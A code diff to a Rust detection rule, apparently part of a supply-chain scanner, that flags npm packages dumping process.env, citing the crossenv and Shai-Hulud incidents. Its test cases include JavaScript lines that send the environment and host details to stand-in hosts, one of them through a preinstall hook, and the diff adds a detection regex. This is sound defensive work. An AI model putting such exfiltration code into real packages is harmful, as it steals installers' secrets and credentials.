@@ -16,11 +16,13 @@ crate::declare_rule! {
     title: "collects the whole environment",
     incident: "crossenv typosquat (2017) posted base64(JSON.stringify(process.env)); Shai-Hulud (2025) dumped env",
     case_file: "index.js",
-    flag: ["const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
+    flag: ["const d = JSON.stringify({ h: os.hostname(), e: process.env }); https.get('https://x.example.net/?d=' + d)",
+           "const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
            "const e = process.env; for (const k in e) out[k] = e[k]",
            "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
-    pass: ["const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
+    pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
+           "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -49,6 +51,16 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 .map(|c| (c.off, c.path.clone())),
             None => find_text(f, text).into_iter().next(),
         };
+        // The whole environment as one value of an object that is serialised.
+        let env_value = crate::regex!(
+            r"JSON\.stringify\(\s*\{[^;]{0,400}?[\w$'\x22]\s*:\s*process\.env\s*[,}]"
+        );
+        let hit = hit.or_else(|| {
+            find_text(f, env_value)
+                .into_iter()
+                .next()
+                .map(|(o, _)| (o, "JSON.stringify({ …: process.env })".to_string()))
+        });
         let hit = hit.or_else(|| {
             // A host fingerprint: who and where the machine is, collected in one place.
             let js = f.js.as_ref()?;
